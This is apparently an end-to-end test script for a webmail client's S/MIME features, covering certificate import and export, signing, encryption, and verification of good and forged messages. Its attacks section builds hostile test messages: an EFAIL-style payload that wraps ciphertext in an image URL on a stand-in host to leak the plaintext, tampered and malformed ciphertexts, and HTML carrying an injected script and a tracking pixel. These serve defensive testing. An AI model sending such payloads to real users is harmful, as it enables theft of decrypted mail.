// Mail with certificates: OpenSSL as the authority and as everybody else.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { atOnce, page, withBrowser } from './browser.mjs';
import { Other } from './jmap.mjs';
import { answer, deliver, enter, inbox, keptHere, mail, newest, octetsOf, onThePhone, open, rows, settings, to } from './sealed.mjs';
import { check, gallery, until } from './steps.mjs';

/** The last is where the authority is that the server trusts. */
const [base, name, password, pictures, , authority] = process.argv.slice(2);
const { picture, accessible } = gallery(pictures, 'smime-');
const PASSPHRASE = 'seven quiet herons';
const FILE_PASSWORD = 'short';
const SECRET = 'the heron lands at nine';
const BOB = 'bob@example.test';
const CAROL = 'carol@example.test';

const work = mkdtempSync(join(tmpdir(), 'veredus-smime-'));
const at = (file) => join(work, file);

function openssl(args, input) {
  return execFileSync('openssl', args, { cwd: work, input, stdio: ['pipe', 'pipe', 'pipe'], maxBuffer: 64 << 20 });
}

const RSA = ['-newkey', 'rsa:2048'];
const EDWARDS = ['-newkey', 'ed25519'];
const EC = ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256'];
let serial = 100;

/** @param by null: by itself */
function certificate(file, cn, address, { kind = RSA, days = 200, extensions = [], by = authority } = {}) {
  openssl(['req', '-noenc', ...kind, '-keyout', `${file}.key`, '-out', `${file}.csr`, '-subj', `/CN=${cn}`]);
  writeFileSync(at(`${file}.ext`), [`subjectAltName=email:${address}`, 'extendedKeyUsage=emailProtection', ...extensions].join('\n'));
  const issuer = by === null ? ['-signkey', `${file}.key`] : ['-CA', join(by, 'root.pem'), '-CAkey', join(by, 'root.key'), '-set_serial', String(++serial)];
  openssl(['x509', '-req', '-in', `${file}.csr`, ...issuer, '-extfile', `${file}.ext`, '-out', `${file}.pem`, '-days', String(days)]);
  return { key: at(`${file}.key`), pem: at(`${file}.pem`) };
}

function p12(file, one, more = []) {
  openssl(['pkcs12', '-export', '-inkey', one.key, '-in', one.pem, '-certfile', join(authority, 'root.pem'), '-passout', `pass:${FILE_PASSWORD}`, '-out', file, ...more]);
  return at(file);
}

const text = (words) => `Content-Type: text/plain; charset=utf-8\n\n${words}\n`;

function signed(part, one, more = []) {
  return openssl(['cms', '-sign', '-signer', one.pem, '-inkey', one.key, ...more], part).toString();
}

function encrypted(part, whom, more = ['-aes-256-gcm']) {
  return openssl(['cms', '-encrypt', ...more, ...whom.map((each) => each.pem)], part).toString();
}

/** With a header of a message in front of that of the object. */
function posted(subject, object, from) {
  const [head, ...body] = object.replace(/\r/g, '').split('\n\n');
  const type = /Content-Type: ([\s\S]*?)(?=\n\S|$)/.exec(head)[1];
  const rest = head.split('\n').filter((line) => /^Content-(?:Transfer|Disposition)/.test(line)).map((line) => `${line}\n`).join('');
  return mail(subject, type, body.join('\n\n'), rest, from);
}

async function says(web, subject, words, not) {
  const article = await open(web, subject);
  await article.getByText(words).first().waitFor({ timeout: 8000 }).catch(async (late) => { console.error(subject, await article.innerText()); throw late; });
  if (not !== undefined) check(!(await article.innerText()).includes(not), `${subject} shows ${not}`);
  return article;
}

/** What was said goes out of the way. */
async function dismiss(web) {
  const shut = web.locator('.notices .shut');
  while ((await shut.count()) > 0) await shut.first().click({ timeout: 2000 }).catch(() => undefined); // it may have gone by itself
}

/** Once nothing moves any more. */
async function inColours(web, colorScheme) {
  await web.emulateMedia({ colorScheme });
  await until(() => web.evaluate(() => document.getAnimations().every((each) => each.playState !== 'running')), 'the colours have changed');
}

async function choose(web, file, filePassword, again = PASSPHRASE) {
  const button = web.getByRole('button', { name: 'Import a certificate' });
  await until(() => button.isEnabled(), 'the one before is imported');
  await web.getByLabel('File with certificate and private key').setInputFiles(file);
  await web.getByLabel('Password of the file').fill(filePassword);
  await web.getByLabel('Passphrase', { exact: true }).last().fill(PASSPHRASE);
  await web.getByLabel('Passphrase once more').last().fill(again);
  await button.click();
}

async function importing(web, other, people) {
  await settings(web);
  await web.getByRole('heading', { name: 'Import a certificate' }).scrollIntoViewIfNeeded();
  await picture(web, 'settings-empty');
  await accessible(web, 'certificates, none');
  await choose(web, p12('alice.p12', people.alice), 'wrong');
  await web.getByText('That is not the password of the file').waitFor();
  await choose(web, at('alice.p12'), FILE_PASSWORD, 'something else!');
  await web.getByText('The two passphrases differ.').waitFor();
  await choose(web, p12('eve.p12', people.eve), FILE_PASSWORD);
  await web.getByText('This certificate is for eve@example.test, not for an address of yours.').waitFor();
  await picture(web, 'not-yours');
  openssl(['pkcs12', '-export', '-nokeys', '-in', people.alice.pem, '-passout', `pass:${FILE_PASSWORD}`, '-out', 'bare.p12']);
  await choose(web, at('bare.p12'), FILE_PASSWORD);
  await web.getByText('There is no certificate with its private key in that file.').waitFor();
  writeFileSync(at('cut.p12'), readFileSync(at('alice.p12')).subarray(0, 700));
  await choose(web, at('cut.p12'), FILE_PASSWORD);
  await web.getByText('The certificate cannot be read.').waitFor();
  await choose(web, at('alice.p12'), FILE_PASSWORD);
  await web.getByRole('heading', { name: 'Your certificates' }).waitFor();
  await web.getByText('issued by Journey Authority').waitFor();
  const print = openssl(['x509', '-in', people.alice.pem, '-noout', '-fingerprint', '-sha256']).toString().replace(/.*=|[:\s]/g, '');
  await web.getByText(print.replace(/(.{4})(?=.)/g, '$1 ')).waitFor();
  const { list } = await other.call('Preference/get', { ids: null });
  const kept = JSON.stringify(list.filter((each) => each.name.startsWith('webmail.smime.key.')));
  const secret = openssl(['pkcs8', '-topk8', '-nocrypt', '-in', people.alice.key, '-outform', 'DER']).toString('base64');
  check(kept.length > 2000 && !kept.includes(PASSPHRASE) && !kept.includes(secret.slice(60, 100)), 'the server has the key locked, and no passphrase');
}

/** Several, one of them run out, one soon to; taken away again. What leaves is what came. */
async function several(web, people) {
  await choose(web, p12('old.p12', people.old, ['-legacy']), FILE_PASSWORD);
  await web.getByText('expired on').waitFor();
  await choose(web, p12('curve.p12', people.curve), FILE_PASSWORD);
  await web.getByText('expires in 20 days').waitFor();
  await dismiss(web);
  await web.getByRole('heading', { name: 'Your certificates' }).scrollIntoViewIfNeeded();
  await picture(web, 'several');
  await accessible(web, 'certificates, several');
  await inColours(web, 'dark');
  await accessible(web, 'certificates, several, dark');
  await picture(web, 'several-dark');
  await inColours(web, 'light');
  const item = (words) => web.getByRole('listitem').filter({ hasText: words });
  web.once('dialog', (dialog) => dialog.accept());
  await item('expired on').getByRole('button', { name: 'Remove' }).click();
  await until(async () => (await item('expired on').count()) === 0, 'the old one has gone');
  web.once('dialog', (dialog) => dialog.accept());
  await item('expires in').getByRole('button', { name: 'Remove' }).click();
  await until(async () => (await item('expires in').count()) === 0, 'the other one has gone');
  let download = web.waitForEvent('download');
  await web.getByRole('button', { name: 'Export certificate' }).click();
  const pem = await (await download).path();
  check(openssl(['x509', '-in', pem, '-noout', '-subject']).toString().includes('Alice'), 'the certificate is exported');
  await web.getByRole('button', { name: 'Export with private key' }).click();
  await web.getByLabel('Password for the file').fill('carried in a pocket');
  await picture(web, 'export');
  download = web.waitForEvent('download');
  await web.getByRole('button', { name: 'Save', exact: true }).click();
  const file = await (await download).path();
  const modulus = (input) => openssl(['rsa', '-noout', '-modulus'], input).toString();
  const exported = openssl(['pkcs12', '-in', file, '-passin', 'pass:carried in a pocket', '-nodes', '-nocerts']);
  check(modulus(exported) === modulus(readFileSync(people.alice.key)), 'the key that is exported is the one that was imported');
}

/** A signature that leads to an authority, and what is made of it. */
async function verified(web, other, people) {
  await deliver(other, posted('Signed by Bob', signed(text('The price is 40 pounds.'), people.bob)), posted('Signed in one piece', signed(text('All of it.'), people.bob, ['-nodetach'])),
    posted('Signed by Carol', signed(text('And I am Carol.'), people.carol), `Carol <${CAROL}>`));
  await inbox(web);
  await says(web, 'Signed in one piece', 'All of it.');
  const article = await says(web, 'Signed by Bob', 'Signed by Bob with a certificate (S/MIME) that our server has verified.');
  await article.getByText('The price is 40 pounds.').waitFor();
  check(!(await article.innerText()).includes('smime.p7s'), 'the signature stands among the attachments');
  await picture(web, 'verified');
  await accessible(web, 'verified');
  await article.getByRole('button', { name: 'Keep the certificate in contacts' }).click();
  await web.getByText('The certificate is kept with Bob.').waitFor();
  check(await article.getByRole('button', { name: 'Keep the certificate in contacts' }).count() === 0, 'it is offered once more');
  await says(web, 'Signed by Carol', 'Signed by Carol with a certificate (S/MIME) that our server has verified.');
}

async function receive(web, other, people) {
  const inner = `Content-Type: multipart/mixed; boundary=i; protected-headers="v1"\nSubject: Where the heron lands\n\n--i\nContent-Type: text/html; charset=utf-8\n\n<p>${SECRET}</p><img src="https://tracker.test/pixel.png" width=200 height=100><script>document.title='owned'</script>\n--i\nContent-Type: text/plain; name=map.txt\nContent-Disposition: attachment; filename=map.txt\n\nnorth of the pier\n--i--\n`;
  const alone = text('Nobody has signed this.');
  await deliver(other,
    posted('...', encrypted(signed(inner, people.bob), [people.alice, people.bob])),
    posted('By RSA and 3DES', encrypted(text('As it was long ago.'), [people.alice], ['-des3'])),
    posted('Carol within', encrypted(signed(text('Carol says so.'), people.carol, ['-nodetach']), [people.alice]), `Carol <${CAROL}>`),
    posted('Nobody within', encrypted(alone, [people.alice])),
    posted('Loose', encrypted(alone, [people.alice], ['-aes-128-cbc'])),
    posted('Mallory within', encrypted(signed(text('I am Bob, too.'), people.mallory), [people.alice])),
    posted('Carol as Bob', encrypted(signed(text('This is Bob.'), people.carol), [people.alice])),
    posted('Changed within', encrypted(signed(text('40 pounds'), people.bob).replace('40 pounds', '90 pounds'), [people.alice])));
  await inbox(web);
  let asked = 0;
  web.on('request', (request) => { if (/tracker|web\/image/.test(request.url())) asked++; });
  const article = await says(web, '...', 'Signed by Bob (S/MIME). The certificate is in your contacts.');
  await article.getByText('Where the heron lands').waitFor();
  await web.frameLocator('iframe').getByText(SECRET).waitFor();
  check(await article.getByRole('button', { name: 'Show pictures' }).count() === 0, 'pictures from elsewhere are offered in what is encrypted');
  await article.getByRole('button', { name: /map\.txt/ }).first().click();
  await web.getByText('north of the pier').waitFor();
  await web.keyboard.press('Escape');
  check(asked === 0, 'a picture of encrypted mail was fetched');
  await dismiss(web);
  await picture(web, 'opened');
  await accessible(web, 'opened');
  await inColours(web, 'dark');
  await accessible(web, 'opened, dark');
  await picture(web, 'opened-dark');
  await inColours(web, 'light');
  await says(web, 'By RSA and 3DES', 'As it was long ago.');
  await says(web, 'Carol within', 'Signed by Carol with a certificate (S/MIME) that our server has verified.');
  await says(web, 'Nobody within', 'Not signed: nothing proves who wrote it.', 'It was encrypted in a way');
  await says(web, 'Loose', 'It was encrypted in a way that does not show whether it was changed.');
  await says(web, 'Mallory within', 'with a certificate that nobody vouches for.');
  await picture(web, 'nobody-vouches');
  await accessible(web, 'nobody vouches');
  await says(web, 'Carol as Bob', `Signed by ${CAROL}, who is not the sender.`);
  await says(web, 'Changed within', 'The signature is wrong');
  await picture(web, 'wrong');
}

/** What attackers do with what they cannot read, and what is wrong in other ways. */
async function attacks(web, other, people) {
  const sealed = encrypted(text(SECRET), [people.alice], ['-aes-256-cbc']).replace(/\r/g, '');
  const [head, body] = sealed.split('\n\n');
  const gcm = encrypted(text(SECRET), [people.alice]).replace(/\r/g, '').split('\n\n')[1].trim().split('\n');
  const broken = gcm.map((line, i) => (i === gcm.length - 2 ? line.replace(/^..../, (four) => (four === 'AAAA' ? 'BBBB' : 'AAAA')) : line)).join('\n');
  const object = (subject, content, kind = 'enveloped-data') => mail(subject, `application/pkcs7-mime; smime-type=${kind}; name="smime.p7m"`, content, 'Content-Transfer-Encoding: base64\n');
  await deliver(other,
    // EFAIL: what is encrypted between the ends of an address of a picture
    mail('Exfiltrate', 'multipart/mixed; boundary=e', `--e\nContent-Type: text/html\n\n<img src="https://tracker.test/?\n--e\n${head.replace(/^(?:MIME-Version.*\n)/, '')}\n\n${body}\n--e\nContent-Type: text/html\n\n">\n--e--\n`),
    object('Broken', broken, 'authEnveloped-data'),
    object('Cut short', body.split('\n').slice(0, 8).join('\n')),
    object('Nothing', 'bm90aGluZw=='),
    object('Deep', Buffer.alloc(60_000, Buffer.from([0x30, 0x80])).toString('base64').replace(/(.{76})/g, '$1\n')),
    object('For Bob alone', encrypted(text(SECRET), [people.bob]).replace(/\r/g, '').split('\n\n')[1]),
    posted('Lies within', encrypted('Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=y\n\n--y\nContent-Type: text/html\n\n<b>half<img src="https://tracker.test/?\n--y\nContent-Type: application/pkcs7-signature\n\n--y\n', [people.alice])));
  await inbox(web);
  await says(web, 'Exfiltrate', 'Only a part of this message is encrypted.', SECRET);
  for (const subject of ['Broken', 'Cut short', 'Nothing', 'Deep']) await says(web, subject, 'It cannot be opened', SECRET);
  await says(web, 'For Bob alone', 'The key that opens it is not here.', SECRET);
  await says(web, 'Lies within', 'Encrypted: only its readers can open it.');
}

async function bcc(composer, address) {
  await composer.getByRole('button', { name: 'Cc/Bcc' }).click();
  await composer.getByRole('combobox', { name: 'Bcc' }).fill(address);
  await composer.getByRole('combobox', { name: 'Bcc' }).press(',');
}

async function arrived(other, subject) {
  let got;
  await until(async () => {
    got = await newest(other, 'inbox');
    return got?.subject === subject;
  }, `${subject} arrives`, 30);
  return octetsOf(other, got);
}

function opens(message, whom) {
  writeFileSync(at('came'), message);
  const inner = openssl(['cms', '-decrypt', '-in', 'came', '-inkey', whom.key, '-recip', whom.pem]);
  writeFileSync(at('inner'), inner);
  openssl(['cms', '-verify', '-in', 'inner', '-CAfile', join(authority, 'root.pem'), '-out', 'content']);
  return readFileSync(at('content'), 'utf8');
}

function recipients(message) {
  writeFileSync(at('came'), message);
  return openssl(['cms', '-cmsout', '-print', '-noout', '-in', 'came']).toString().match(/d\.(?:ktri|kari)/g).length;
}

/** What was sent last, opened and verified here; the list may show what it knew before at first. */
async function ownNewest(web, other, words) {
  const { threadId } = await newest(other, 'sent');
  await web.getByRole('navigation', { name: 'Mailboxes' }).getByRole('button', { name: 'Sent' }).click();
  await web.getByRole('heading', { name: 'Sent' }).waitFor();
  await until(async () => {
    await rows(web).locator('.hit').first().click();
    return new URL(web.url()).pathname.endsWith(`/${threadId}`);
  }, 'what was sent last is on top');
  await web.getByRole('article').getByText('Signed with your own key.').waitFor();
  await web.frameLocator('iframe').getByText(words).waitFor();
}

async function write(web, other, others, people) {
  await inbox(web);
  await dismiss(web);
  const composer = web.locator('.composer');
  await web.keyboard.press('c');
  await to(composer, BOB);
  await composer.getByRole('button', { name: 'Encrypt' }).click();
  await composer.getByText('There is a certificate for every recipient.').waitFor();
  await composer.getByRole('textbox', { name: 'Subject' }).fill('Übermorgen');
  await composer.getByRole('textbox', { name: 'Message' }).click();
  await web.keyboard.type('We meet at the grey boathouse.');
  await composer.locator('input[type=file]').setInputFiles({ name: 'Plan für Bob.txt', mimeType: 'text/plain', buffer: Buffer.from('left of the door') });
  await composer.getByText('Saved', { exact: true }).waitFor();
  const draft = await octetsOf(other, await newest(other, 'drafts'));
  check(/smime-type=authEnveloped-data/.test(draft) && !/boathouse|bermorgen/.test(draft), 'the draft is readable on the server');
  await picture(web, 'writing');
  await accessible(web, 'writing encrypted');
  await to(composer, 'dora@elsewhere.test');
  await composer.getByText('No certificate for dora@elsewhere.test: it cannot be sent encrypted.').waitFor();
  await picture(web, 'no-certificate');
  await composer.getByRole('button', { name: /dora@elsewhere/ }).last().click();
  await bcc(composer, CAROL); // whose certificate came by mail
  await composer.getByText('There is a certificate for every recipient.').waitFor();
  await composer.getByRole('button', { name: 'Send', exact: true }).click();
  await composer.waitFor({ state: 'detached' });
  const his = await arrived(others.bob, '[...]');
  const content = opens(his, people.bob);
  check(/^Subject: =\?utf-8\?B\?/m.test(content) && /hp="cipher"/.test(content) && /HP-Outer: Subject: \[\.\.\.\]/.test(content), 'the header is inside');
  check(content.includes(Buffer.from('left of the door').toString('base64')), 'the file is inside');
  check(Buffer.from(/text\/plain; charset=utf-8[\s\S]*?\r?\n\r?\n([\s\S]*?)--/.exec(content)[1], 'base64').toString().includes('grey boathouse'), 'the text is inside');
  check(/smime-type=enveloped-data/.test(his), 'OpenSSL has not said that it reads AES-GCM');
  check(recipients(his) === 2 && !new RegExp(CAROL).test(his), 'Bob sees who else has got it');
  const hers = await arrived(others.carol, '[...]');
  check(recipients(hers) === 2 && !new RegExp(CAROL).test(hers.slice(hers.indexOf('\r\nFrom:'))), 'Carol has a copy of her own');
  opens(hers, people.carol);
  const { ids } = await other.call('Email/query', { filter: { inMailbox: await other.mailbox('drafts') } });
  check(ids.length === 0, 'copies are left among the drafts');
  const sent = await octetsOf(other, await newest(other, 'sent'));
  check(!/boathouse/.test(sent) && recipients(sent) === 2, 'what was sent is kept readable');
  await ownNewest(web, other, 'grey boathouse');
}

/** Called back, with the copy that nobody is to know of. */
async function thinkBetter(web, others) {
  const time = web.getByRole('group', { name: 'Undo sending' });
  await settings(web, 'writing', time);
  await time.getByText('10 seconds').click();
  await inbox(web);
  const composer = web.locator('.composer');
  await web.keyboard.press('c');
  await to(composer, BOB);
  await bcc(composer, CAROL);
  await composer.getByRole('button', { name: 'Encrypt' }).click();
  await composer.getByRole('textbox', { name: 'Subject' }).fill('Never mind');
  await composer.getByRole('textbox', { name: 'Message' }).click();
  await web.keyboard.type('Forget it.');
  const before = (await newest(others.carol, 'inbox')).id;
  await composer.getByRole('button', { name: 'Send', exact: true }).click();
  await web.getByRole('button', { name: 'Undo' }).click();
  await composer.getByText('Forget it.').waitFor();
  check(await composer.getByRole('textbox', { name: 'Subject' }).inputValue() === 'Never mind', 'the draft is back');
  await composer.getByRole('button', { name: 'Discard the draft' }).click();
  await composer.waitFor({ state: 'detached' });
  check((await newest(others.carol, 'inbox')).id === before, 'the copy was sent');
}

/** @returns the message as Bob has got it, signed and not encrypted */
async function sign(web, others, subject) {
  const composer = web.locator('.composer');
  await web.keyboard.press('c');
  await to(composer, BOB);
  await composer.getByRole('button', { name: 'Sign', exact: true }).click();
  await composer.getByRole('textbox', { name: 'Subject' }).fill(subject);
  await composer.getByRole('textbox', { name: 'Message' }).click();
  await web.keyboard.type('Signed, not sealed.');
  await composer.getByRole('button', { name: 'Send', exact: true }).click();
  await composer.waitFor({ state: 'detached' });
  const whole = await arrived(others.bob, subject);
  const { list } = await others.bob.call('Email/get', { ids: [(await newest(others.bob, 'inbox')).id], properties: ['smimeStatus'] });
  check(list[0].smimeStatus === 'signed/verified', 'our own server verifies it');
  const p7s = /application\/pkcs7-signature; name="smime\.p7s"[\s\S]*?\r\n\r\n([\s\S]*?)\r\n--/.exec(whole)[1];
  return { whole, printed: openssl(['cms', '-cmsout', '-print', '-noout', '-inform', 'DER'], Buffer.from(p7s, 'base64')).toString() };
}

async function signOnly(web, others) {
  const { whole, printed } = await sign(web, others, 'For all to read');
  check(/multipart\/signed;[\s\S]*micalg="sha-256"; protocol="application\/pkcs7-signature"/.test(whole), 'its type');
  writeFileSync(at('came'), whole);
  openssl(['cms', '-verify', '-in', 'came', '-CAfile', join(authority, 'root.pem'), '-signer', 'who.pem', '-out', 'content']);
  check(openssl(['x509', '-in', 'who.pem', '-noout', '-subject']).toString().includes('Alice'), 'who has signed');
  check(/signingTime/.test(printed) && /S\/MIME Capabilities[\s\S]*aes-256-gcm/i.test(printed) && /Journey Authority/.test(printed), `its attributes: ${printed}`);
}

/** A key for nothing but Ed25519 signatures: the server verifies what the browser makes, and so does the browser what is encrypted besides. */
async function edwards(web, other, others, people) {
  await settings(web);
  await choose(web, p12('edwards.p12', people.edwards), FILE_PASSWORD);
  const item = web.getByRole('listitem').filter({ hasText: 'Alice Edwards' });
  await item.waitFor();
  await inbox(web);
  const { whole, printed } = await sign(web, others, 'By another curve');
  check(/micalg="sha-512"/.test(whole) && /algorithm: ED25519/.test(printed.slice(printed.indexOf('signedAttrs'))), `its algorithm: ${printed}`);
  const composer = web.locator('.composer');
  await web.keyboard.press('c');
  await to(composer, BOB);
  await composer.getByRole('button', { name: 'Encrypt' }).click();
  await composer.getByRole('textbox', { name: 'Message' }).click();
  await web.keyboard.type('On another curve.');
  await composer.getByRole('button', { name: 'Send', exact: true }).click();
  await composer.waitFor({ state: 'detached' });
  await ownNewest(web, other, 'On another curve.');
  await settings(web);
  web.once('dialog', (dialog) => dialog.accept());
  await item.getByRole('button', { name: 'Remove' }).click();
  await item.waitFor({ state: 'detached' });
  await inbox(web);
}

/** Certificates as files: attached, chosen, listed and taken away. */
async function ofOthers(web, other, people) {
  const der = openssl(['x509', '-in', people.dora.pem, '-outform', 'DER']).toString('base64').replace(/(.{76})/g, '$1\n');
  await deliver(other, mail('My certificate', 'multipart/mixed; boundary=m', `--m\nContent-Type: text/plain\n\nHere it is.\n--m\nContent-Type: application/pkix-cert; name=dora.cer\nContent-Disposition: attachment; filename=dora.cer\nContent-Transfer-Encoding: base64\n\n${der}\n--m--\n`, '', 'Dora <dora@elsewhere.test>'));
  await inbox(web);
  const article = await open(web, 'My certificate');
  await article.getByText('A certificate of dora@elsewhere.test').waitFor();
  await picture(web, 'offer');
  await accessible(web, 'a certificate is offered');
  await article.getByRole('button', { name: 'Keep in contacts' }).click();
  await web.getByText('The certificate is kept with Dora.').waitFor();
  await settings(web);
  const item = (words) => web.getByRole('listitem').filter({ hasText: words });
  await item('dora@elsewhere.test').waitFor();
  openssl(['crl2pkcs7', '-nocrl', '-certfile', people.carol.pem, '-certfile', join(authority, 'root.pem'), '-out', 'carol.p7c']);
  await web.getByLabel('Add from a file').setInputFiles(at('carol.p7c'));
  await item(CAROL).waitFor();
  await dismiss(web);
  await web.getByRole('heading', { name: 'Certificates of others' }).scrollIntoViewIfNeeded();
  await picture(web, 'others');
  await accessible(web, 'certificates of others');
  await web.getByRole('button', { name: 'Remove: Dora' }).click();
  await until(async () => (await item('dora@elsewhere.test').count()) === 0, 'it has gone');
}

async function lockAndUnlock(web) {
  await settings(web);
  await web.getByRole('button', { name: 'Lock now' }).click();
  await inbox(web);
  const article = await open(web, '...');
  await article.getByText('This message is encrypted.').waitFor();
  await article.getByRole('button', { name: 'Unlock' }).click();
  await web.getByRole('dialog').getByLabel('Passphrase').fill('not that one');
  await web.keyboard.press('Enter');
  await web.getByText('That is not the passphrase.').waitFor();
  await web.getByRole('dialog').getByLabel('Passphrase').fill(PASSPHRASE);
  await web.keyboard.press('Enter');
  await article.getByText('Where the heron lands').waitFor();
}

/** With a key of OpenPGP besides, one chooses; one passphrase opens both. */
async function both(web) {
  await settings(web);
  await web.getByLabel('Passphrase', { exact: true }).first().fill(PASSPHRASE);
  await web.getByLabel('Passphrase once more').first().fill(PASSPHRASE);
  await web.getByRole('button', { name: 'Make a key' }).click();
  await web.getByRole('heading', { name: 'Your keys' }).waitFor();
  await dismiss(web);
  await inbox(web);
  const composer = web.locator('.composer');
  await web.keyboard.press('c');
  await to(composer, BOB);
  await composer.getByRole('button', { name: 'Encrypt' }).click();
  await composer.getByText(`No key for ${BOB}`).waitFor();
  await composer.getByRole('button', { name: 'S/MIME' }).click();
  await composer.getByText('There is a certificate for every recipient.').waitFor();
  await picture(web, 'either');
  await accessible(web, 'either way');
  await composer.getByRole('button', { name: 'Discard the draft' }).click();
  await composer.waitFor({ state: 'detached' });
  await web.reload();
  const article = await open(web, '...');
  await article.getByRole('button', { name: 'Unlock' }).click();
  await web.getByRole('dialog').getByLabel('Passphrase').fill(PASSPHRASE);
  await web.keyboard.press('Enter');
  await article.getByText('Where the heron lands').waitFor();
  await settings(web);
  await until(async () => (await web.getByRole('button', { name: 'Lock now' }).count()) === 2, 'one passphrase opens both');
}

async function nothingKept(web) {
  const kept = await keptHere(web);
  check(kept.includes('Signed by Carol'), 'the browser keeps mail at all');
  check(!/heron|boathouse/.test(kept), 'what was opened is kept in the browser');
}

async function phone(browser, other, people) {
  const inner = 'Content-Type: text/plain; charset=utf-8; protected-headers="v1"\nSubject: North of the pier\n\nThe tide is out until ten, so come along the sand.\n';
  await deliver(other, posted('On the way', encrypted(signed(inner, people.bob), [people.alice])));
  await onThePhone(browser, { base, name, password, passphrase: PASSPHRASE, picture, accessible }, { row: 'On the way', within: 'North of the pier', heading: 'Your certificates' });
}

try {
  await withBrowser(async (browser) => {
    const people = {
      alice: certificate('alice', 'Alice', name), curve: certificate('curve', 'Alice on a curve', name, { kind: EC, days: 20 }), old: certificate('old', 'Alice of old', name, { days: -1 }),
      eve: certificate('eve', 'Eve', 'eve@example.test'), bob: certificate('bob', 'Bob', BOB), carol: certificate('carol', 'Carol', CAROL, { kind: EC }),
      edwards: certificate('edwards', 'Alice Edwards', name, { kind: EDWARDS, days: 300 }),
      dora: certificate('dora', 'Dora', 'dora@elsewhere.test', { kind: EC }), mallory: certificate('mallory', 'Bob', BOB, { by: null }),
    };
    const other = await new Other(base, name, password).open();
    const others = { bob: await new Other(base, BOB, password).open(), carol: await new Other(base, CAROL, password).open() };
    const web = await page(browser, base, { acceptDownloads: true });
    await atOnce(web);
    await enter(web, name, password, true);
    await web.getByRole('navigation', { name: 'Mailboxes' }).waitFor();
    await importing(web, other, people);
    await several(web, people);
    await verified(web, other, people);
    await receive(web, other, people);
    await attacks(web, other, people);
    await write(web, other, others, people);
    await signOnly(web, others);
    await edwards(web, other, others, people);
    await thinkBetter(web, others);
    check(/pkcs7-mime/.test(await answer(web, other, 'certificate')), 'the answer is of S/MIME');
    await ofOthers(web, other, people);
    await lockAndUnlock(web);
    await both(web);
    await nothingKept(web);
    await phone(browser, other, people);
    check(web.troubles.length === 0, web.troubles.join('\n'));
  });
} finally {
  rmSync(work, { recursive: true, force: true });
}
